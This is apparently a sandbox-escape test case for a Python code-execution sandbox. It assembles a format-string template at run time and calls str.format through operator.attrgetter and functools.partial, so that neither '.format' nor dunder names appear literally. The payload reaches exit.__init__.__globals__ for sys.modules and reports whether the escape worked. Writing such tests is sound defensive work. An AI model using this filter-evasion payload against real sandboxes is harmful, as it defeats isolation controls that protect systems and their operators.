# technique: functools.partial over the unbound str.format fetched as operator.attrgetter('format')(str) (no `.format` in the source); calling the partial formats a run-time __init__.__globals__[sys].modules template unchecked
# configs: default, common
# With nothing allowed the imports are refused.
import functools
import operator
u = '_' * 2
tpl = '{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules}'
render = functools.partial(operator.attrgetter('format')(str), tpl)
text = render(exit)
if "<module 'sys'" in text:
    return [{'json': {'escaped': text[:300]}}]
return [{'json': {'result': text[:300]}}]
